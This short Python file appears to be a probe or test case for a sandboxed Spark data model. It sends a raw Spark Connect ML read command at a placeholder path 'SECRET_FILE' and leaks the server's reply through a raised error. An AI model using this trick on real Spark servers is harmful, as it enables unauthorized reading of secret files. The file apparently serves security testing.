# seeks: file
# Commands of machine learning read and write folders.
from pyspark.sql.connect import proto


def model(tg):
    client = tg.ref("silver.orders").sparkSession.client
    command = proto.Command()
    command.ml_command.read.path = "SECRET_FILE"
    command.ml_command.read.operator.name = "org.apache.spark.ml.feature.VectorAssembler"
    command.ml_command.read.operator.type = 2
    raise ValueError(str(client.execute_command(command)))
